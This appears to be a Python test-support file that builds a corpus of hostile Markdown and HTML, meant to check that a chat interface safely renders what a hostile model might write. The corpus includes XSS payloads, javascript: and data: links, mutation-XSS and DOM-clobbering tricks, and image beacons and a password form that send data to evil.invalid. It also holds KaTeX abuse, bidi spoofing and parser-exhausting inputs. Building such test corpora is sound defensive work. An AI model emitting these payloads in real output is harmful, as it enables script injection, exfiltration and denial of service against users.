"""What a hostile model may write: each tries to run a script, to leave the page, or to hold it up."""

from tests.support.scripted_upstream import HOSTILE_MARKDOWN

SCRIPTS = """\
<script>window.pwned = 1</script> <script src="https://evil.invalid/x.js"></script>
<SCRIPT/XSS>window.pwned=1</SCRIPT> <scr<script>ipt>window.pwned=1</scr</script>ipt>
<img src=x onerror=window.pwned=1> <body onload=window.pwned=1> <video><source onerror=window.pwned=1></video>
<details open ontoggle=window.pwned=1> <input autofocus onfocus=window.pwned=1> <marquee onstart=window.pwned=1>
<svg><script>window.pwned=1</script></svg> <svg/onload=window.pwned=1> <svg><animate onbegin=window.pwned=1>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJ3aW5kb3cucHduZWQ9MSIvPg==#x"/></svg>
<math><maction actiontype="statusline#https://evil.invalid" xlink:href="javascript:window.pwned=1">x</maction></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>
<iframe src="javascript:parent.pwned=1"></iframe> <iframe src=https://evil.invalid/frame></iframe>
<object data="data:text/html,<script>parent.pwned=1</script>"></object> <embed src=https://evil.invalid/embed>
<template><script>window.pwned=1</script></template> <noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
<xmp><p title="</xmp><img src=x onerror=window.pwned=1>"> <!--><img src=x onerror=window.pwned=1>-->
<style>@import "https://evil.invalid/a.css"; * { background: url(https://evil.invalid/b.png) }</style>
<p style="background:url(https://evil.invalid/c.png);position:fixed;inset:0">over everything</p>
<meta http-equiv="refresh" content="0;url=https://evil.invalid/refresh"> <base href="https://evil.invalid/">
<link rel=stylesheet href=https://evil.invalid/d.css> <link rel=prefetch href=https://evil.invalid/e>
<form action=https://evil.invalid/form><input name=password><button formaction=javascript:pwned=1>go</button></form>
"""

LINKS = """\
[a](javascript:window.pwned=1) [b](JaVaScRiPt:window.pwned=1) [c](java\tscript:window.pwned=1)
[d](javascript&colon;window.pwned=1) [e](&#106;avascript:window.pwned=1) [f](\x01javascript:window.pwned=1)
[g](vbscript:msgbox) [h](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==) [i](file:///etc/passwd)
[j](blob:https://evil.invalid/x) [k](//evil.invalid/protocol-relative) [l](/logout) [m](?x#y)
<javascript:window.pwned=1> <data:text/html,x> <https://evil.invalid/auto> https://evil.invalid/bare
[n]: javascript:window.pwned=1
[n] [o](https://evil.invalid/"onmouseover=window.pwned=1) [p](<https://evil.invalid/" onclick="window.pwned=1>)
[q](https://evil.invalid 'title" onmouseover="window.pwned=1')
"""

BEACONS = """\
![a](https://evil.invalid/a.png?q=secret) ![b][later] ![c](//evil.invalid/c.png) ![d](/api/me "local")
![e](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQ9MSIvPg==)
![f](data:text/html,<script>pwned=1</script>) [![g](https://evil.invalid/g.png)](https://evil.invalid/h)
![" onerror="window.pwned=1](https://evil.invalid/i.png) ![j](https://evil.invalid/j.png "x\\" onerror=\\"pwned=1")
| ![k](https://evil.invalid/k.png) | <picture><source srcset=https://evil.invalid/l.png></picture> |
|---|---|
| ![m](https://evil.invalid/m.png) | <audio src=https://evil.invalid/n.mp3 autoplay> |

[later]: https://evil.invalid/later.png
"""

CODE = """\
```html"onmouseover="window.pwned=1
<script>window.pwned = 1</script>
```

``` "><img src=x onerror=window.pwned=1>
x
```

````python
```js
print("</code></pre><script>window.pwned=1</script>")
```
````

```__proto__
x
```

```constructor
x
```

`` `<img src=x onerror=window.pwned=1>` `` ~~~~ `unclosed <b>
"""

FORMULAS = r"""
$\href{javascript:window.pwned=1}{x}$ $\url{javascript:window.pwned=1}$ $\htmlData{x=1}{y}$ $\htmlId{main}{y}$
$\htmlClass{sidebar}{z}$ $\htmlStyle{position:fixed}{z}$ $\includegraphics{https://evil.invalid/katex.png}$
$$\def\x{\x\x}\x$$ $$\rule{99999em}{99999em}$$ $\text{<img src=x onerror=window.pwned=1>}$ $\unicode{x}$
$$\newcommand{\a}[1]{#1#1#1#1#1#1#1#1}\a{\a{\a{\a{\a{\a{x}}}}}}$$ $\color{red;background:url(//evil.invalid/k)}{x}$
$\frac{$ $$\begin{matrix}$$ \(\href{vbscript:x}{y}\) \[\href{data:text/html,x}{y}\]
"""

CLOBBERS = """\
<form id=createElement><input name=attributes><input id=parentNode></form> <img name=body> <a id=location href=x></a>
<a id=defaultView name=top></a> <div id=main data-chat data-composer data-messages data-sign-out>x</div>
<div class="sidebar dialog" data-slot=text>x</div> <button data-sign-out data-delete>x</button>

| id | class |
|---|---|
| <p id=chat-state>{}</p> | <p id=catalogue>{}</p> |
"""

UNCLOSED = """\
**bold *and _more ~~struck `code ```fence [link](https://evil.invalid/"x ![img](data:image/png;base64,AAAA
<div><table><tr><td> <!-- comment <![CDATA[ x <?php echo ?> <a href="https://evil.invalid
> > > quote
1. one
   - two
      ```
      never closed <script>window.pwned=1</script>
$$ \\frac{1}{
"""

STACKED = "z" + "\u0335\u0336\u0337\u0338" * 200
ODDITIES = f"""\
\u202egnp.exe \u2066hidden\u2069 \u200b\u200d\ufeff\u0000 a\u0301\u0302\u0303 {STACKED}

[\u202ejavascript:\u202c](https://evil.invalid/\u202egnp.exe) # \ud7ff
"""

DIRECTIONS = """\
<p dir="rtl">turned</p> <bdo dir=rtl>turned</bdo> <bdi dir=rtl>turned</bdi> <html dir=rtl> <body dir="rtl">
<div dir=rtl style="direction:rtl;unicode-bidi:bidi-override">over everything</div> `x` dir=rtl `" dir="rtl`
[a](https://evil.invalid/ 'x" dir="rtl') ![b](data:image/png;base64,AAAA "y\\" dir=\\"rtl")
$\\htmlStyle{direction:rtl}{z}$
\u202e\u202e\u202e overridden, never popped \u2067\u2067 isolated, never popped

- \u202eoverridden item

a paragraph after them

```x"dir="rtl
code
```
"""

DEEP = "\n\n".join(
    [
        ">" * 2000 + " deep",
        "\n".join("  " * depth + "- x" for depth in range(40)),
        "[" * 5000 + "x" + "](y)" * 5000,
        "*_" * 5000 + "x" + "_*" * 5000,
        "![" * 2000,
        "`" * 3000 + " ` " + "`" * 2999,
        "$" * 3000,
        "|" * 2000 + "\n" + "|-" * 2000,
    ]
)

LONG_LINE = "a" * 50_000 + " " + "字" * 16_000 + " end of the line"

# Code that a highlighter reads again and again, each time from another beginning.
SLOW_CODE = "\n\n".join(
    f"```{language}\n{(piece * 40_000)[:39_000]}\n```"
    for language, piece in {"java": "Aa", "ini": "a.", "csharp": "a\n", "c": "_", "cpp": "A"}.items()
)

MANY_FORMULAS = ("$x^2$ " * 100 + "\n\n") * 40 + "$$\\frac{1}{x}$$\n\n" * 300

CORPUS = {
    "twin": HOSTILE_MARKDOWN,
    "scripts": SCRIPTS,
    "links": LINKS,
    "beacons": BEACONS,
    "code": CODE,
    "formulas": FORMULAS,
    "clobbers": CLOBBERS,
    "unclosed": UNCLOSED,
    "oddities": ODDITIES,
    "directions": DIRECTIONS,
    "deep": DEEP,
    "long line": LONG_LINE,
    "slow code": SLOW_CODE,
    "many formulas": MANY_FORMULAS,
}
